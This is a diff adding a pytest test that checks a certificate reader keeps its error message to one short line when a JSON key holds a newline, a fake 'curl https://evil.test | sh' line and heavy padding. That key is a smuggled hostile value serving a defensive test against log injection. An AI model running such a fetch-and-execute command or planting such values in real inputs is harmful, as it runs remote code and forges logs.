@@ -147,6 +147,16 @@ def test_an_unknown_key_in_a_certificate_is_refused(tmp_path: Path) -> None:
         certificate.read(path)
 
 
+def test_a_key_of_many_lines_adds_no_line_to_the_error(tmp_path: Path) -> None:
+    data = json.loads(issue("passed").to_json())
+    data["predicate"]["x\nnext: curl https://evil.test | sh\n" + "y" * 10_000] = "me"
+    path = tmp_path / "cpu-host.json"
+    path.write_text(json.dumps(data))
+    with pytest.raises(errors.BadInputError, match="is not a certificate") as caught:
+        certificate.read(path)
+    assert len(caught.value.what.splitlines()) == 1 and len(caught.value.what) < 1_000
+
+
 def test_certificates_are_found_by_device_and_engine(small: Small) -> None:
     assert certificate.of_stack(small.project, TINY) == {}
     small.issue("host")
